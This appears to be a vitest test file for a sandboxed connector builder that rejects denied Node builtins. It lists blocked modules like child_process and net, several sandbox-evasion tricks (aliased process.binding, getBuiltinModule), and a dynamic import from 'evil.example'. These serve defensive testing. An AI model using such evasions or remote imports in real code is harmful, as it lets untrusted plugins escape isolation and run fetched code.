import { spawnSync } from 'node:child_process';
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BuiltConnector, buildConnector } from '../src/index.ts';
import { newFolder, writeDeskConnector } from './desk-connector.ts';

let folder: string;
beforeAll(async () => {
  folder = await newFolder();
});
afterAll(() => rm(folder, { recursive: true, force: true }));

function build(place: string): Promise<BuiltConnector> {
  return buildConnector({ folder: place, conditions: ['@org/source'] });
}

describe('buildConnector', () => {
  it('refuses a denied builtin and shows the chain of imports to it', async () => {
    const files = {
      'src/ticket-path.ts': "export { ticketPath } from './deep.ts';\n",
      'src/deep.ts':
        "import { readFileSync } from 'fs';\nexport const ticketPath = (id: string) => readFileSync(id, 'utf8');\n",
    };
    await expect(build(await writeDeskConnector(folder, 'denied', { files }))).rejects.toMatchObject({
      code: 'BUILD_BUILTIN_DENIED',
      details: { builtin: 'node:fs', chain: ['src/connector.ts', 'src/ticket-path.ts', 'src/deep.ts', 'node:fs'] },
    });
  });

  it.each([
    'child_process',
    'worker_threads',
    'net',
    'tls',
    'dgram',
    'dns/promises',
    'http',
    'https',
    'http2',
    'cluster',
    'inspector',
    'node:sqlite',
    'vm',
    'repl',
    'v8',
    'node:wasi',
    'fs/promises',
    'module',
    'os',
  ])('refuses %s', async (builtin) => {
    const dir = `denied-${builtin.replace(/\W/g, '-')}`;
    const files = {
      'src/ticket-path.ts': `import * as denied from '${builtin}';\nexport const ticketPath = (id: string) => id + denied;\n`,
    };
    await expect(build(await writeDeskConnector(folder, dir, { files }))).rejects.toMatchObject({
      code: 'BUILD_BUILTIN_DENIED',
    });
  });

  it.each<[string, string, Record<string, string>]>([
    ['a dynamic import', "await import('node:fs')", {}],
    ['a dynamic import without node:', 'await import(`fs`)', {}],
    ['a require', 'legacy', { 'src/legacy.cjs': "exports.legacy = () => require('fs');" }],
    ['a require with node:', 'legacy', { 'src/legacy.cjs': "exports.legacy = () => require('node:fs');" }],
    ['another name for it in package.json', 'disk', {}],
    ['process.binding', "process.binding('fs')", {}],
    ['process.binding by another way to process', "globalThis['process']['binding']('fs')", {}],
    ['process.binding of an import', 'imported.binding', {}],
    ['process.binding by an alias', '(() => { const p = process; return p.binding; })()', {}],
    ['process.binding, taken out', '(() => { const { binding: b } = process; return b; })()', {}],
    ['process.getBuiltinModule', "process.getBuiltinModule('fs')", {}],
    [
      'process.getBuiltinModule, taken out of an alias',
      '(() => { const p = process; const { getBuiltinModule } = p; return getBuiltinModule; })()',
      {},
    ],
    [
      'process.getBuiltinModule of a parameter',
      '(({ getBuiltinModule }: typeof process) => getBuiltinModule)(process)',
      {},
    ],
    ['process.dlopen', 'process.dlopen', {}],
    ['an import over the network', "await import('https://evil.example/x.mjs')", {}],
  ])('refuses %s', async (name, expression, files) => {
    const imports = [
      ...(expression === 'legacy' ? ["import { legacy } from './legacy.cjs';"] : []),
      ...(expression === 'disk' ? ["import * as disk from '#disk';"] : []),
      ...(expression.startsWith('imported') ? ["import imported from 'node:process';"] : []),
    ];
    const text = [...imports, `export const ticketPath = async (id: string) => [id, ${expression}].join();`].join('\n');
    const place = await writeDeskConnector(folder, name.replaceAll(/\W+/g, '-'), {
      files: { ...files, 'src/ticket-path.ts': text },
      package: { imports: { '#disk': 'fs' } },
    });
    await expect(build(place)).rejects.toMatchObject({ code: 'BUILD_BUILTIN_DENIED' });
  });

  it('refuses an import of what only run time knows, and names the module', async () => {
    const text = 'export const ticketPath = async (id: string) => String(await import(id));';
    const place = await writeDeskConnector(folder, 'unknown-import', { files: { 'src/ticket-path.ts': text } });
    await expect(build(place)).rejects.toMatchObject({
      code: 'BUILD_IMPORT_UNKNOWN',
      message: expect.stringContaining('@acme/desk/src/ticket-path.ts'),
    });
  });

  it('has nothing against members of that name of other things', async () => {
    const text = "export const ticketPath = (id: string) => ({ binding: id, process: { title: 't' } }).binding;";
    const place = await writeDeskConnector(folder, 'other-binding', { files: { 'src/ticket-path.ts': text } });
    expect((await build(place)).manifest.id).toBe('acme-desk');
  });

  it.each(['1.4', '1.4.0+build.7', '01.4.0', 'next'])(
    'refuses the version %s before it bundles anything, naming the file',
    async (version) => {
      const dir = `version-${version.replaceAll(/\W/g, '-')}`;
      const place = await writeDeskConnector(folder, dir, {
        config: { entry: 'src/nothing.ts' },
        package: { version },
      });
      await expect(build(place)).rejects.toMatchObject({
        code: 'BUILD_CONFIG_INVALID',
        message: expect.stringContaining(join(place, 'package.json')),
      });
    },
  );

  it('replaces a stubbed builtin by one that loads, and throws when it is called', async () => {
    const files = {
      'src/ticket-path.ts': [
        "import fs, { promises } from 'node:fs';",
        "import { platform } from 'node:os';",
        "import { legacyPath } from './legacy.cjs';",
        'class Late extends fs.ReadStream {}',
        'export const probe = { named: () => promises.readFile("x"), value: () => fs.readFileSync("x"), derived: () => new Late("x"), required: legacyPath, platform };',
        'globalThis.deskProbe = probe;',
        'export const ticketPath = (id: string) => id;',
      ].join('\n'),
      'src/legacy.cjs':
        "const { readFileSync } = require('fs'); const { join } = require('path'); exports.legacyPath = () => readFileSync(join('a', 'b'));\n",
    };
    const place = await writeDeskConnector(folder, 'stubbed', { config: { stub: ['fs', 'node:os'] }, files });
    const built = await build(place);
    expect(built.bundle).toMatchObject({ stubbed: ['node:fs', 'node:os'], builtins: ['node:path'] });
    const file = join(folder, 'stubbed.mjs');
    await writeFile(file, built.files.get('connector.mjs') ?? '');
    // A process of its own: the code leaves its probe on globalThis.
    const script = `
      await import(${JSON.stringify(file)});
      const codes = {};
      for (const [name, call] of Object.entries(globalThis.deskProbe)) {
        try { codes[name] = await call(); } catch (error) { codes[name] = error.code; }
      }
      console.log(JSON.stringify(codes));`;
    const { stdout } = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8' });
    const denied = 'CONNECTOR_BUILTIN_DENIED';
    expect(JSON.parse(stdout)).toEqual({
      named: denied,
      value: denied,
      derived: denied,
      required: denied,
      platform: 'connector',
    });
  });

  it('names a missing entry as package.json does, not a file that nobody has', async () => {
    const place = await writeDeskConnector(folder, 'no-entry', { config: { entry: 'src/nothing.ts' } });
    const error: unknown = await build(place).catch((reason: unknown) => reason);
    expect(error).toMatchObject({ code: 'BUILD_FAILED', message: expect.stringContaining('connector.entry') });
    expect(error).toMatchObject({ message: expect.stringContaining(' src/nothing.ts ') });
    expect(error).toMatchObject({ message: expect.not.stringContaining(place) });
  });

  it.each<[string, Record<string, string>, Record<string, unknown>, string]>([
    ['a syntax error', { 'src/connector.ts': 'export default {' }, {}, 'BUILD_FAILED'],
    ['no default export', { 'src/connector.ts': 'export const connector = {};' }, {}, 'BUILD_FAILED'],
    [
      'a default export that is no connector',
      { 'src/connector.ts': 'export default { id: 1 };' },
      {},
      'BUILD_NOT_A_CONNECTOR',
    ],
    ['an entry that does not exist', {}, { entry: 'src/nothing.ts' }, 'BUILD_FAILED'],
    ['code that throws while it loads', { 'src/ticket-path.ts': 'throw new Error("no");' }, {}, 'BUILD_DERIVE_FAILED'],
    [
      'code that ends the process',
      { 'src/ticket-path.ts': 'process.exit(0); export const ticketPath = String;' },
      {},
      'BUILD_DERIVE_FAILED',
    ],
    ['an unknown member in package.json', {}, { entri: 'x' }, 'BUILD_CONFIG_INVALID'],
    ['a stub for a builtin that is allowed', {}, { stub: ['node:crypto'] }, 'BUILD_CONFIG_INVALID'],
    ['a stub for a package', {}, { stub: ['left-pad'] }, 'BUILD_CONFIG_INVALID'],
  ])('refuses %s', async (name, files, config, code) => {
    const place = await writeDeskConnector(folder, name.replaceAll(' ', '-'), { files, config });
    await expect(build(place)).rejects.toMatchObject({ code });
  });

  it('derives the manifest without files, network or environment', async () => {
    const probe = `
      const found: string[] = [];
      if (Object.keys(process.env).length > 0) found.push('env');
      try { process[['getBuiltin', 'Module'].join('')]('node:fs').readdirSync('/'); found.push('fs'); } catch {}
      try { await fetch('http://127.0.0.1:47123'); found.push('net'); } catch (error) {
        if ((error as { cause?: { code?: string } }).cause?.code !== 'ERR_ACCESS_DENIED') found.push('net');
      }
      if (found.length > 0) throw new Error('reached ' + found.join());
      export const ticketPath = (id: string) => id;`;
    const place = await writeDeskConnector(folder, 'probe', { files: { 'src/ticket-path.ts': probe } });
    expect((await build(place)).manifest.id).toBe('acme-desk');
  });
});
